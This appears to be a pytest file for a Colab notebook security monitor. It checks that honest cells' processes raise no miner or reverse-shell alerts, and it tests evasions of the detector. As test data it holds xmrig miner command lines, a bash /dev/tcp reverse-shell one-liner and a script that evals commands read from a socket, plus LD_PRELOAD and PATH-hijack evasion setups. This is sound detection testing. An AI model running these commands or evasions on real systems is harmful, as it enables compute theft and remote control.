"""Honest cells' processes as the sampler sees them (session 19). The cell check clears a cell
before it runs; the sampler may then catch any of its processes mid-flight, on a loaded
machine even a short-lived one: the system's shell running a ``!`` line (``/bin/sh -c LINE``),
the bash of a ``%%bash`` cell (``['bash']``, its forks too), each program the line starts and
what a Python cell starts. Each is tested here as a sampled process, as it is and with what the
cell check cannot know (a connection, many, a listener, CPU and GPU, the files it names open).

Found and fixed (engine: the system's own text tools and shells are judged as the cell check
reads a ``!`` line): a ``%%bash`` cell's grep for a miner's options inherited the connection
its shell opened on fd 3 and was a networked miner; the shell of ``!python train.py && echo
"next week: xmrig --donate-level 1 -o …"`` was a miner all the while it trained. Attacked:
the system-shell exemption took any file named sh under /usr/local/bin (Colab's kernels run as
root); a library preloaded into the system's grep, a grep of the cell's first on PATH; a shell
that reads its commands from a connection on fd 3, its script in a file, is left (strict
xfail, the reason below). Everything on loopback."""

from __future__ import annotations

import ast
import glob
import json
import os
import re
import shutil
import subprocess
import tempfile
from contextlib import contextmanager
from functools import lru_cache
from pathlib import Path

import pytest
import yaml

from colab_guard.detect.cells import analyse_cell
from colab_guard.detect.commands import base, script_as_programs
from colab_guard.detect.engine import Engine
from colab_guard.detect.signatures import load_signatures
from colab_guard.observe.model import Process, Snapshot, Socket
from colab_guard.observe.processes import ProcessSampler
from tests.test_shell_streams import ECHO_SCRIPT, Greeter, _stop, _wait_for, bash_cell_connected

RULES = load_signatures()
TESTS = Path(__file__).parent
#: Past every signature's hold (`for`, 60 s at most)
HELD = 61.0

# ---------------------------------------------------------------- the corpus

#: Lists of honest cells by their names, in the red-team files (their other lists are abuse)
HONEST_LIST = re.compile(r"HONEST|NEAR|LEFT_ALONE|NAMED_CELLS|COURSE_CELLS|^FIXED_CELLS")
#: Lists of the honest files that hold abuse: what is still recognised beside a fix
ABUSE_LIST = re.compile(r"STILL|FORBID|ABUSE|CAUGHT|EVASION|REFUSED|WARNED|GAP|MISSED")


def _strings(node: ast.AST) -> list[str]:
    return [n.value for n in ast.walk(node)
            if isinstance(n, ast.Constant) and isinstance(n.value, str) and len(n.value) > 1]


def _flatten(value, depth: int = 0):
    if isinstance(value, str):
        yield value
    elif depth < 4 and isinstance(value, (list, tuple, set, frozenset)):
        for item in value:
            yield from _flatten(item, depth + 1)
    elif depth < 4 and isinstance(value, dict):
        for item in value.values():
            yield from _flatten(item, depth + 1)


def _test_files() -> list[Path]:
    return sorted(TESTS.glob("test_honest_*.py")) + sorted(TESTS.glob("test_redteam_*.py")) \
        + [TESTS / "test_cell_evasions.py"]


def _cells_of_file(path: Path) -> list[tuple[str, str]]:
    """Every string of an honest file's statements (its abuse lists left out), and of the
    red-team files' honest lists: literal ones read from the source, built ones imported."""
    honest_file = path.name.startswith("test_honest_")
    found = []
    for node in ast.parse(path.read_text()).body:
        names = [t.id for t in getattr(node, "targets", [getattr(node, "target", None)])
                 if isinstance(t, ast.Name)]
        name = names[0] if names else getattr(node, "name", "")
        if ABUSE_LIST.search(name.upper()):
            continue
        if honest_file or HONEST_LIST.search(name) or re.search(r"honest|left_alone|near", name):
            found += [(f"{path.name}:{name}", s) for s in _strings(node)]
    if not honest_file and path.name != "test_honest_sampled19.py":
        module = __import__(f"tests.{path.stem}", fromlist=["_"])
        for name, value in vars(module).items():
            if HONEST_LIST.search(name) and not ABUSE_LIST.search(name):
                found += [(f"{path.name}:{name}", s) for s in _flatten(value)]
    return found


def _notebook_cells() -> list[tuple[str, str]]:
    manifest = yaml.safe_load((TESTS / "notebooks" / "manifest.yaml").read_text())
    found = []
    for entry in manifest["notebooks"]:
        if entry["kind"] == "benign":
            notebook = json.loads((TESTS / "notebooks" / entry["file"]).read_text())
            found += [(f"{entry['file']}#{i}", "".join(c["source"]))
                      for i, c in enumerate(notebook["cells"]) if c["cell_type"] == "code"]
    return found


@lru_cache(maxsize=1)
def honest_corpus() -> tuple[tuple[str, str], ...]:
    """(where, cell) for every honest cell of the tests and the benign notebooks."""
    cells = [c for f in _test_files() if f.name != Path(__file__).name for c in _cells_of_file(f)]
    cells += _notebook_cells() + [("this file", cell) for cell in PLAUSIBLE_CELLS]
    return tuple({source: (where, source) for where, source in reversed(cells)}.values())


# ---------------------------------------------------------------- the processes of a cell

BANG = re.compile(r"^\s*!!?(.+)$", re.M)


@lru_cache(maxsize=4096)
def exe_of(word: str) -> str:
    """The file a process started as ``word`` runs, as /proc/PID/exe shows it (links
    resolved); a program not installed here as the system's or the cell's folder would."""
    found = shutil.which(word) if "/" not in word else (word if os.path.exists(word) else None)
    if found:
        return os.path.realpath(found)
    return f"/usr/bin/{word}" if "/" not in word else os.path.normpath(f"/content/{word}")


def _started(argv: list[str]) -> Process:
    return Process(pid=0, name=base(argv[0])[:15], exe=exe_of(argv[0]), cmdline=list(argv))


def cell_processes(source: str) -> list[Process]:
    """Every process the sampler could see while ``source`` runs: its shells (a fork of a
    shell keeps the shell's command line: a pipeline's, ``( … )``'s, ``$( … )``'s) and
    each program the cell check finds it starts."""
    first = source.lstrip().split("\n", 1)[0].strip()
    analysis = analyse_cell(source)
    found = []
    if first.startswith(("%%bash", "%%script bash")):
        found.append(_started(["bash"]))
    elif first.startswith("%%sh"):
        found.append(_started(["sh"]))
    lines = [] if first.startswith("%%") else [m.group(1) for m in BANG.finditer(source)]
    # os.system and shell=True run the system's shell too: its script is a `run:` line
    scripts = lines + [line[5:] for line in analysis.text.splitlines() if line.startswith("run: ")]
    found += [_started(["/bin/sh", "-c", s]).but(name="sh") for s in dict.fromkeys(scripts)]
    found += [_started(c.argv) for c in analysis.commands
              if c.argv and c.argv[0] != "__output__"]
    return found


CONNECTION = [Socket("tcp", "10.0.0.2", 40000, "203.0.113.5", 443, "ESTABLISHED")]
CONNECTIONS = [Socket("tcp", "10.0.0.2", 40000 + i, f"203.0.113.{i}", 443, "ESTABLISHED")
               for i in range(16)]
SERVING = [Socket("tcp", "127.0.0.1", 8000, status="LISTEN"),
           Socket("tcp", "127.0.0.1", 8000, "127.0.0.1", 50000, "ESTABLISHED")]
FILE_NAME = re.compile(r"^[\w./~-]+\.[A-Za-z0-9]{1,12}$")


def as_sampled(process: Process):
    """The process as the sampler may see it: what the cell check cannot know filled in with
    what is plausible (a connection its shell opened and it inherited, a downloader's many,
    a dashboard's listener, a busy CPU and GPU, the files it names open)."""
    yield "as started", process
    yield "a connection", process.but(sockets=CONNECTION)
    yield "16 connections, busy", process.but(sockets=CONNECTIONS, cpu_percent=100.0)
    yield "serving", process.but(sockets=SERVING)
    yield "busy", process.but(cpu_percent=100.0, gpu_percent=90.0)
    files = [a if a.startswith("/") else f"/content/{a}" for a in process.cmdline[1:]
             if FILE_NAME.match(a)]
    if files:
        yield "its files open", process.but(open_files=files, cpu_percent=100.0,
                                            gpu_percent=90.0, sockets=CONNECTION)


def process_detections(*processes: Process) -> list[str]:
    """What the engine finds on processes seen twice, HELD seconds apart."""
    engine = Engine(RULES)
    processes = [p.but(pid=100 + i, create_time=1.0) for i, p in enumerate(processes)]
    engine.evaluate(Snapshot("k", 1000.0, processes))
    return sorted({d.signature.id for d in engine.evaluate(Snapshot("k", 1000.0 + HELD,
                                                                    processes))})


def _shape(process: Process) -> tuple:
    """A padded table's thousand `pip install pkgN` are one shape."""
    return (re.sub(r"[0-9]+", "0", "\0".join(process.cmdline)), process.exe)


#: Matches of the sweep that are no false positive, and why
NOT_HONEST = {
    # test_honest_session11's near-the-fixes list holds the cells that must still be caught
    ("./x", "-o", "stratum+tcp://pool.example.net:3333"): "caught on purpose",
    ("./fetch", "-l", "admin", "-P", "pass.txt", "ftp://127.0.0.1:2121"): "caught on purpose",
    ("./fetch", "-l", "admin", "-p", "s3:cret", "ssh://127.0.0.1"): "caught on purpose",
    # the cell check's reading over-approximates a label zipped with commands: never run
    ("ngrok", "tcp", "22", "is", "blocked"): "never started",
    # a padded table's 1,101st install: the cell check tests 500 programs, the sampler the
    # rest when they run (acquire-tunnel-tool's warning, as on `!pip install pyngrok`)
    ("pip", "install", "pyngrok"): "the warning wanted",
}

#: Plausible honest lines beside the corpus: its text tools holding what their shell opened,
#: a course's notes printed beside a program that runs
PLAUSIBLE_CELLS = [
    "%%bash\nexec 3<>/dev/tcp/127.0.0.1/8888\ntail -f miner.log | grep -e "
    "'--donate-level 1 -o pool.example.org:3333'\n",
    "!grep -c 'stratum+tcp://pool.example.net:3333' notes/week5.md",
    "!cat notes/xmrig-options.txt | grep -- '--donate-level'",
    '!python train.py --epochs 3 && echo "next week: xmrig --donate-level 1 -o '
    'pool.example.org:3333"',
    "!nohup python train.py > log.txt 2>&1 & tail -f log.txt | grep --line-buffered "
    "'xmrig --donate-level 1 -o pool.example.org:3333'",
    "!bash -c 'python t.py; echo xmrig --donate-level 1 -o pool.example.org:3333'",
]


def sweep() -> dict[tuple, tuple[str, str, list[str]]]:
    """Every process of every honest cell, in each plausible state, that matches a process
    signature: command line -> (where, state, signatures)."""
    processes = {}
    for where, source in honest_corpus():
        for process in cell_processes(source):
            processes.setdefault(_shape(process), (where, process))
    found = {}
    for where, process in processes.values():
        for state, sampled in as_sampled(process):
            ids = process_detections(sampled)
            if ids and tuple(process.cmdline) not in NOT_HONEST:
                found.setdefault(tuple(process.cmdline), (where, state, ids))
    return found


def test_no_process_of_an_honest_cell_matches_a_process_signature():
    assert len(honest_corpus()) > 1000
    assert sweep() == {}


def test_the_sweep_sees_the_cells_processes():
    """The sweep's own check: the shells and programs of a cell, and a miner's line caught."""
    seen = {tuple(p.cmdline) for p in cell_processes("%%bash\ncurl -s http://x/ | grep y\n")}
    assert {("bash",), ("curl", "-s", "http://x/"), ("grep", "y")} <= seen
    shells = [p for p in cell_processes("!ls | wc -l") if p.name == "sh"]
    assert [p.cmdline for p in shells] == [["/bin/sh", "-c", "ls | wc -l"]]
    miner = _started(["./xmrig", "--donate-level", "1", "-o", "pool.example.net:3333"])
    assert "mining-miner-options" in process_detections(miner.but(sockets=CONNECTION))


# ---------------------------------------------------------------- fixed: the system's text tools

@pytest.mark.parametrize("argv, programs", [
    (["/bin/sh", "-c", 'python t.py && echo "xmrig --donate-level 1"'], [["python", "t.py"]]),
    (["/bin/sh", "-c", "echo a; grep -c b notes.md"], []),
    (["/bin/sh", "-c", "bash -c 'python t.py; echo --donate-level'"], [["python", "t.py"]]),
    (["/bin/sh", "-c", "nohup ./x -o p.org:3333 &"], [["nohup", "./x", "-o", "p.org:3333"],
                                                      ["./x", "-o", "p.org:3333"]]),
    (["/bin/sh", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"], None),  # read as text
    (["/bin/sh", "/etc/init.d/ssh", "start"], None),  # a script in a file: not read
    (["python3", "-c", "print(1)"], None),
    (["/bin/busybox", "telnetd", "-l", "/bin/sh"], None),  # busybox runs a tool: as it is
    (["bash", "--login", "-c", "python t.py"], [["python", "t.py"]]),  # as the cell check reads it
    (["bash", "-lc", "python t.py; echo xmrig"], [["python", "t.py"]]),
])
def test_a_shells_script_is_read_as_the_programs_it_starts(argv, programs):
    assert script_as_programs(argv) == programs



def test_the_systems_text_tool_is_judged_as_the_cell_check_judges_it():
    """grep holding the connection its `%%bash` shell opened, searching a log for a miner's
    options: its arguments are data. A miner named grep (not the system's file) is not."""
    grep = _started(["grep", "-e", "--donate-level 1 -o pool.example.org:3333"])
    assert grep.exe.startswith("/usr/bin/") or grep.exe.startswith("/bin/")
    assert process_detections(grep.but(sockets=CONNECTION)) == []
    renamed = grep.but(exe="/content/grep")
    assert "mining-miner-options" in process_detections(renamed.but(sockets=CONNECTION))
    marked = grep.but(exe_markers=["xmrig"])
    assert process_detections(marked.but(sockets=CONNECTION)) != []


def test_a_grep_holding_its_shells_connection_is_left_alone_when_sampled():
    """A real `%%bash` cell: bash opens fd 3 to a service, then greps a log it follows for a
    miner's options; grep inherits fd 3 and waits on its pipe (sampled mid-flight)."""
    with bash_cell_connected("sleep 30 | grep -e '--donate-level 1 -o pool.example.org:3333'\n"
                             ) as bash:
        grep, detections = _wait_for(ProcessSampler(), bash.pid,
                                     lambda p: p.name == "grep" and p.sockets)
        assert "--donate-level 1 -o pool.example.org:3333" in grep.cmdline
        assert detections == []


def _sampled_once(argv: list[str], want) -> tuple:
    process = subprocess.Popen(argv, stdout=subprocess.DEVNULL)
    try:
        return _wait_for(ProcessSampler(), process.pid, want)
    finally:
        _stop(process)


def test_the_systems_shell_printing_notes_while_a_program_runs_is_left_alone():
    """`!python train.py && echo "next week: xmrig --donate-level 1 -o …"`: the shell lives
    as long as the training (here a Python that sleeps), its command line the whole line."""
    line = ('python3 -c "import time; time.sleep(30)" && '
            'echo "next week: xmrig --donate-level 1 -o pool.example.org:3333"')
    shell, detections = _sampled_once(["/bin/sh", "-c", line],
                                      lambda p: p.cmdline == ["/bin/sh", "-c", line])
    assert shell.exe in ("/usr/bin/dash", "/bin/dash", "/usr/bin/bash", "/bin/bash")
    assert detections == []


def test_the_systems_shell_starting_a_miner_is_still_recognised(tmp_path):
    """The shell's script judged on its programs: the miner it starts is one of them (a
    stand-in that sleeps), and the stand-in is recognised as a process of its own."""
    miner = _sleeper(tmp_path / "xmrig")
    with _shell_running(f"{miner} --donate-level 1 -o pool.example.org:3333; echo done") as (
            shell, sampler):
        _, detections = _wait_for(sampler, shell.pid, lambda p: p.pid == shell.pid)
        assert "mining-miner-command-line" in {d.signature.id for d in detections}
        _, detections = _wait_for(sampler, shell.pid, lambda p: str(miner) in p.cmdline[1:2])
        assert "mining-miner-command-line" in {d.signature.id for d in detections}


def _sleeper(path: Path) -> Path:
    """A stand-in program at ``path`` that sleeps 30 s, whatever its arguments."""
    path.write_text("#!/bin/sh\nsleep 30\n")
    path.chmod(0o755)
    return path


@contextmanager
def _shell_running(line: str):
    """The system's shell running ``line``, and a sampler to watch it with."""
    shell = subprocess.Popen(["/bin/sh", "-c", line], stdout=subprocess.DEVNULL)
    try:
        yield shell, ProcessSampler()
    finally:
        _stop(shell)


# ---------------------------------------------------------------- attacks on today's fixes

def test_a_library_preloaded_into_the_systems_grep_is_judged_on_its_arguments(tmp_path):
    """The system's grep with a library of the cell's preloaded (LD_PRELOAD): the library
    runs in grep and reads its arguments as it likes (a miner's options), so they are not
    data. A copy of a system library stands in for it."""
    system_library = next(iter(glob.glob("/usr/lib/*/libz.so.1") + glob.glob("/lib/*/libz.so.1")
                               + glob.glob("/usr/lib*/libz.so.1")), None)
    if system_library is None:
        pytest.skip("no libz to stand in for a preloaded library")
    library = tmp_path / "libfast.so"
    shutil.copy(system_library, library)
    script = (f"sleep 30 | LD_PRELOAD={library} "
              "grep -e '--donate-level 1 -o pool.example.org:3333'\n")
    with bash_cell_connected(script) as bash:
        grep, detections = _wait_for(ProcessSampler(), bash.pid,
                                     lambda p: p.name == "grep" and p.sockets
                                     and str(library) in p.libraries)
        assert "mining-miner-options" in {d.signature.id for d in detections}


def test_a_program_named_grep_first_on_the_path_is_judged_on_its_arguments(tmp_path):
    """`PATH=…:$PATH grep --donate-level 1 -o …`: the shell's script reads as a text tool
    only, but what runs is the cell's file named grep (a stand-in that sleeps), judged as a
    process of its own on its options."""
    fake = _sleeper(tmp_path / "grep")
    with _shell_running(f"PATH={tmp_path}:$PATH grep --donate-level 1 -o "
                        "pool.example.org:3333; echo done") as (shell, sampler):
        _, detections = _wait_for(sampler, shell.pid, lambda p: str(fake) in p.cmdline[1:2])
        assert "mining-miner-command-line" in {d.signature.id for d in detections}
        _, detections = _wait_for(sampler, shell.pid, lambda p: p.pid == shell.pid)
        assert detections == []  # the shell itself: a text tool's line


@pytest.mark.skipif(not os.access("/usr/local/bin", os.W_OK),
                    reason="needs a system folder this user can write to, as root can")
def test_a_copy_named_sh_in_a_system_folder_is_not_the_systems_shell():
    """Colab's kernels run as root: a program installed under /usr/local/bin (here in a
    folder of its own, off every PATH) named sh, given a miner's options after a script of
    text tools, was taken for the system's shell printing them."""
    folder = tempfile.mkdtemp(prefix="fp19-", dir="/usr/local/bin")
    copy = Path(folder) / "sh"
    try:
        shutil.copy(os.path.realpath("/bin/sh"), copy)
        shell = subprocess.Popen([str(copy), "-c", ECHO_SCRIPT], stdout=subprocess.DEVNULL)
        try:
            found, detections = _wait_for(ProcessSampler(), shell.pid,
                                          lambda p: p.pid == shell.pid and "-c" in p.cmdline)
            assert found.exe == str(copy)
            assert "mining-miner-command-line" in {d.signature.id for d in detections}
        finally:
            _stop(shell)
    finally:
        shutil.rmtree(folder)


@pytest.mark.xfail(strict=True, reason=(
    "remote-reverse-shell needs the connection on the shell's standard streams "
    "(stream_sockets): a bash with no script (`!bash < loop.sh`, its script written by an "
    "earlier cell, which the cell check does not read) that opens /dev/tcp on fd 3 and runs "
    "each line it reads there (`while read -r -u 3 c; do eval \"$c\" >&3 2>&3; done`) "
    "holds the connection on fd 3 only while it waits, as an honest %%bash health check "
    "does; before the fix `established >= 1` caught both. What tells them apart is what the "
    "shell does with what it reads, which no field shows"))
def test_a_shell_reading_its_commands_from_fd_3_is_a_reverse_shell(tmp_path):
    """(`read -r c <&3` is caught: while it waits, fd 0 is the connection.)"""
    greeter = Greeter()
    loop = tmp_path / "loop.sh"
    loop.write_text(f"exec 3<>/dev/tcp/127.0.0.1/{greeter.port}\n"
                    "while read -r -u 3 c; do eval \"$c\" >&3 2>&3; done\n")
    with open(loop) as script:
        bash = subprocess.Popen(["bash"], stdin=script, stdout=subprocess.DEVNULL)
    greeter.accept_one()  # greets "hello": the shell runs it (no such command) and waits
    try:
        # its answer read: the shell is back waiting in `read -u 3` (while it runs a line,
        # its stdout is the connection, and a sample then catches it)
        greeter.clients[0].settimeout(20)
        assert b"hello" in greeter.clients[0].recv(4096)
        shell, detections = _wait_for(
            ProcessSampler(), bash.pid,
            lambda p: p.pid == bash.pid and any(s.status == "ESTABLISHED" for s in p.sockets))
        assert shell.cmdline == ["bash"]
        assert "remote-reverse-shell" in {d.signature.id for d in detections}
    finally:
        _stop(bash)
        greeter.close()
